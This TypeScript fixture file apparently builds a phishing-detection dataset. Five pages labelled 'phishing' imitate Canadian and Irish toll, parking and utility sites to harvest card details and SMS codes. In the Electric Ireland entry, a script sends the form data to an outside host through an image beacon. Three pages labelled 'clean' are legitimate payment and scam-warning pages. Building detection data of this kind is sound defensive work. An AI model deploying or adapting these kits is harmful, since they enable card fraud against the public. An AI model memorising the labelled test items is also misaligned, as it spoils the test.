import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, formCss, monogram } from '../parts/yp-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yp-toll-407etr-overdue-bilingual',
  label: 'phishing',
  kind: 'toll-smish-kit',
  url: 'https://407etr-billing.com/en/account/pay-overdue',
  routes: {
    '407etr-billing.com/assets/pay.js': jsRoute(`document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var b={};new FormData(this).forEach(function(v,k){b[k]=v});fetch('/api/pay.php',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(b)}).then(function(){document.getElementById('f').innerHTML='<p>Processing… please enter the code sent to your phone.</p><input name="otp" maxlength="6"><button class="btn">Confirm</button>'})});`),
  },
  body: doc({
    title: '407 ETR | Pay your overdue bill',
    lang: 'en-CA',
    css: baseCss + formCss + `header{background:#003a70;color:#fff;padding:14px 0}header .wrap{display:flex;justify-content:space-between}main{max-width:620px;margin:30px auto;padding:0 20px}.amt{background:#fff4e5;border:1px solid #f4b46b;padding:16px;border-radius:6px}.btn{background:#00a0df}`,
    body: `<header><div class="wrap"><b style="font-size:24px">407 ETR</b><a style="color:#fff" href="/fr/compte/paiement-en-retard">Français</a></div></header>
<main><h1>Pay your overdue balance</h1><div class="amt"><b>Balance overdue: $14.86</b><br>Your 407 ETR account has an overdue balance. If payment is not received within 24 hours, your account will be sent to collections and a Licence Plate Denial request will be filed with the Ministry of Transportation.<br><i>Votre compte 407 ETR présente un solde en souffrance de 14,86 $.</i></div>
<form id="f"><label>Licence plate</label><input name="plate" required><label>Name on card</label><input name="holder" required><label>Card number</label><input name="pan" inputmode="numeric" required><div class="row"><div><label>Expiry</label><input name="exp" placeholder="MM/YY" required></div><div><label>CVC</label><input name="cvc" required></div></div><label>Email</label><input name="email" type="email"><p><button class="btn">Pay $14.86</button></p></form>
<p class="hint">407 ETR Concession Company Limited · 6300 Steeles Avenue West, Woodbridge, ON</p></main><script src="/assets/pay.js"></script>`,
  }),
},
{
  id: 'yp-toll-eflow-m50-unpaid',
  label: 'phishing',
  kind: 'toll-smish-kit',
  url: 'https://eflow-ie.help/pay-a-toll/',
  body: doc({
    title: 'eFlow | Pay a Toll',
    lang: 'en-IE',
    css: baseCss + formCss + `header{background:#00843d;color:#fff;padding:16px 0}main{max-width:600px;margin:30px auto;padding:0 20px}.notice{background:#ffecec;border-left:6px solid #c8102e;padding:14px}.btn{background:#00843d}`,
    body: `<header><div class="wrap"><b style="font-size:24px">eFlow</b> · M50 Barrier-Free Tolling</div></header>
<main><h1>Unpaid M50 toll</h1><div class="notice">Vehicle registration <b id="reg">(your vehicle)</b> passed the M50 toll point between J6 and J7 and the toll of <b>€3.70</b> has not been paid. A penalty of €3.00 applies after 24 hours and €41.50 after 14 days.</div>
<form method="post" action="/pay-a-toll/confirm.php" id="f"><label>Vehicle registration</label><input name="vrn" placeholder="e.g. 221-D-12345" required><label>Cardholder name</label><input name="name" required><label>Card number</label><input name="card" required><div class="row"><div><label>Expiry date</label><input name="exp" required></div><div><label>CVV</label><input name="cvv" required></div></div><label>Mobile</label><input name="mobile" placeholder="+353" type="tel"><p><button class="btn">Pay €3.70</button></p></form>
<p class="hint">eFlow is operated on behalf of Transport Infrastructure Ireland.</p></main>
<script>var r=new URLSearchParams(location.search).get('v');if(r)document.getElementById('reg').textContent=r;</script>`,
  }),
},
{
  id: 'yp-parking-mtl-qr-sticker-fr',
  label: 'phishing',
  kind: 'parking-qr-kit',
  url: 'https://stationnement-mtl-paiement.com/p/place',
  body: doc({
    title: 'Stationnement de Montréal – Payer',
    lang: 'fr-CA',
    css: baseCss + formCss + `body{background:#f5f5f5}.hd{background:#1b9b52;color:#fff;padding:14px 18px;font-weight:700}.box{background:#fff;margin:14px;border-radius:8px;padding:18px}.tot{display:flex;justify-content:space-between;font-size:20px;font-weight:700;border-top:1px solid #ddd;padding-top:10px}.btn{background:#1b9b52;width:100%}`,
    body: `<div class="hd">Stationnement de Montréal · P$ Service mobile</div>
<div class="box"><p style="margin-top:0">Nouveau! Payez votre place en balayant le code QR. Aucune application requise.</p><form id="f" method="post" action="/p/traitement.php"><label>Numéro de place</label><input name="place" placeholder="ex. C123" required><label>Plaque d’immatriculation</label><input name="plaque" required><label>Durée</label><select name="duree" id="d"><option value="1">1 h – 3,25 $</option><option value="2">2 h – 6,50 $</option><option value="3">3 h – 9,75 $</option></select>
<h3>Paiement</h3><label>Numéro de carte</label><input name="carte" required><div class="row"><div><label>Expiration</label><input name="exp" placeholder="MM/AA" required></div><div><label>CVV</label><input name="cvv" required></div></div><label>Courriel pour le reçu</label><input name="courriel" type="email">
<p class="tot"><span>Total</span><span id="t">3,25 $</span></p><button class="btn">Payer</button></form></div>
<script>document.getElementById('d').onchange=function(){document.getElementById('t').textContent=(this.value*3.25).toFixed(2).replace('.',',')+' $'};</script>`,
  }),
},
{
  id: 'yp-utility-hydro-interruption-fr',
  label: 'phishing',
  kind: 'utility-kit',
  url: 'https://hydroquebec-espaceclient.info/avis/interruption',
  body: doc({
    title: 'Hydro-Québec – Avis d’interruption de service',
    lang: 'fr-CA',
    css: baseCss + formCss + `header{background:#1682c5;color:#fff;padding:16px 0}main{max-width:640px;margin:28px auto;padding:0 20px}.alert{background:#fff1f0;border-left:6px solid #d0021b;padding:14px 18px}.btn{background:#1682c5}`,
    body: `<header><div class="wrap"><b style="font-size:22px">Hydro-Québec</b> · Espace client</div></header>
<main><h1>Avis d’interruption de service</h1><div class="alert"><b>Votre service d’électricité sera interrompu aujourd’hui à 16 h</b> en raison d’un solde impayé de <b>187,42 $</b>. Pour éviter l’interruption et des frais de rebranchement de 75 $, réglez votre solde immédiatement.</div>
<form method="post" action="/avis/paiement.php" id="f"><label>Numéro de contrat ou de compte</label><input name="contrat"><label>Nom du titulaire</label><input name="nom" required><label>Numéro de carte de crédit</label><input name="carte" required><div class="row"><div><label>Expiration</label><input name="exp" required></div><div><label>CVV</label><input name="cvv" required></div></div><label>Téléphone</label><input name="tel" type="tel"><p><button class="btn">Payer 187,42 $</button></p></form>
<p class="hint">Pour toute question : 1 888 385-7252</p></main>`,
  }),
},
{
  id: 'yp-utility-electric-ireland-overpayment',
  label: 'phishing',
  kind: 'utility-kit',
  url: 'https://electricireland-refunds.com/my-account/refund',
  body: doc({
    title: 'Electric Ireland – Refund',
    lang: 'en-IE',
    css: baseCss + formCss + `header{background:#2b1a5a;color:#fff;padding:16px 0}main{max-width:600px;margin:30px auto;padding:0 20px}.btn{background:#e4007c}.amt{font-size:34px;color:#2b1a5a;font-weight:700}`,
    body: `<header><div class="wrap"><b style="font-size:22px">Electric Ireland</b></div></header>
<main><h1>You have been overcharged</h1><p>Following the recent reduction in unit rates, your account was overcharged and you are entitled to a refund of</p><p class="amt">€126.45</p><p>Please confirm the card you would like the refund to be sent to. Refunds not claimed within 3 days are credited back to the supplier.</p>
<form method="post" action="/my-account/refund/submit" id="f"><label>Account number (MPRN or account no.)</label><input name="acc"><label>Name on card</label><input name="n" required><label>Card number</label><input name="c" required><div class="row"><div><label>Expiry</label><input name="e" required></div><div><label>CVV</label><input name="v" required></div></div><label>Date of birth</label><input name="dob"><p><button class="btn">Claim refund</button></p></form></main>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var q=new URLSearchParams(new FormData(this)).toString();new Image().src='https://eirefund-stat.shop/c.gif?'+q;setTimeout(function(){location.href='/my-account/refund/otp'},600)};</script>`,
  }),
},
{
  id: 'yp-clean-parking-mtl-payer-fr',
  label: 'clean',
  kind: 'clean-parking-pay',
  url: 'https://www.agencemobilitedurable.ca/fr/stationner/payer-son-stationnement',
  body: doc({
    title: 'Payer son stationnement | Agence de mobilité durable',
    lang: 'fr-CA',
    css: baseCss + `header{background:#1b9b52;color:#fff;padding:16px 0}main{max-width:820px;margin:30px auto;padding:0 20px}.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:16px}.grid div{border:1px solid #dcdcdc;border-radius:6px;padding:16px}.warn{background:#fff6e0;border-left:6px solid #f2a900;padding:14px 18px;margin:20px 0}`,
    body: `<header><div class="wrap"><b style="font-size:22px">Agence de mobilité durable</b> · Montréal · <a style="color:#fff" href="/en/park/pay-for-parking">English</a></div></header>
<main><h1>Payer son stationnement</h1><div class="grid"><div><h3>Application P$ Service mobile</h3><p>Payez et prolongez votre stationnement à distance. Disponible sur l’App Store et Google Play.</p></div><div><h3>Bornes de paiement</h3><p>Entrez le numéro de la place (lettre et chiffres) puis payez par carte ou en monnaie.</p></div><div><h3>Par téléphone</h3><p>Pour les utilisateurs inscrits : 514 868-4000.</p></div></div>
<div class="warn"><b>Mise en garde – codes QR frauduleux.</b> Des autocollants avec un code QR ont été apposés sur certaines bornes. L’Agence n’utilise <b>aucun</b> code QR pour le paiement du stationnement. Ne saisissez jamais vos renseignements de carte sur un site ouvert à partir d’un code QR collé sur une borne. Signalez-le au 311.</div>
<h2>Tarifs</h2><p>Les tarifs varient de 1,50 $ à 4,00 $ l’heure selon le secteur. Consultez la borne ou l’application pour le tarif exact.</p></main>`,
  }),
},
{
  id: 'yp-clean-utility-hydroquebec-fraude',
  label: 'clean',
  kind: 'clean-scam-advice',
  url: 'https://www.hydroquebec.com/residentiel/espace-clients/fraude.html',
  body: doc({
    title: 'Tentatives de fraude | Hydro-Québec',
    lang: 'fr-CA',
    css: baseCss + `header{background:#1682c5;color:#fff;padding:16px 0}main{max-width:820px;margin:30px auto;padding:0 20px}blockquote{background:#f2f7fb;border-left:4px solid #1682c5;margin:14px 0;padding:12px 16px}`,
    body: `<header><div class="wrap"><b style="font-size:22px">Hydro-Québec</b> · <a style="color:#fff" href="/residential/customer-space/fraud.html">English</a></div></header>
<main><h1>Tentatives de fraude par courriel, texto ou téléphone</h1><p>Des fraudeurs se font passer pour Hydro-Québec afin d’obtenir vos renseignements personnels ou un paiement. Voici des exemples de messages reçus par nos clients :</p>
<blockquote>« Hydro-Québec : Votre service sera interrompu aujourd’hui à 16 h en raison d’un solde impayé. Payez maintenant : hydroquebec-espaceclient.info »</blockquote><blockquote>« Vous avez droit à un remboursement de 84,27 $. Confirmez votre carte de crédit ici. »</blockquote><blockquote>Un appel vous demandant de payer immédiatement par bitcoin ou avec des cartes prépayées pour éviter une coupure.</blockquote>
<h2>Ce qu’Hydro-Québec ne fait jamais</h2><ul><li>Exiger un paiement immédiat par cartes prépayées, cryptomonnaie ou virement à un particulier.</li><li>Vous menacer d’une interruption de service dans l’heure.</li><li>Vous envoyer un lien pour obtenir un remboursement sur votre carte de crédit.</li></ul>
<p>En cas de doute, raccrochez et appelez-nous au <b>1 888 385-7252</b> ou connectez-vous à votre <a href="https://session.hydroquebec.com/portail/fr/web/clientele/authentification">Espace client</a>.</p></main>`,
  }),
},
{
  id: 'yp-clean-utility-coned-guest-pay',
  label: 'clean',
  kind: 'clean-utility-pay',
  url: 'https://www.coned.com/en/accounts-billing/payment-plans-assistance/pay-as-guest',
  body: doc({
    title: 'Pay as a Guest | Con Edison',
    css: baseCss + formCss + `header{background:#0078cf;color:#fff;padding:16px 0}main{max-width:680px;margin:28px auto;padding:0 20px}.btn{background:#0078cf}`,
    body: `<header><div class="wrap"><b style="font-size:22px">conEdison</b></div></header>
<main><h1>Pay your bill as a guest</h1><p>You can make a one-time payment without signing in. Have your 15-digit account number ready; it is printed at the top of your bill.</p>
<form method="post" action="/en/accounts-billing/pay-as-guest/verify"><label>Account number</label><input name="accountNumber" maxlength="15" inputmode="numeric" required><label>ZIP code of service address</label><input name="zip" maxlength="5" required><p><button class="btn">Continue</button></p></form>
<h2>Beware of payment scams</h2><p>Scammers may call, threatening to shut off your service within the hour unless you pay with a prepaid card, a payment app or cryptocurrency. Con Edison never demands payment by these methods and always provides written notice before a shut-off. If you're unsure, hang up and call us at 1-800-752-6633.</p></main>`,
  }),
},
];
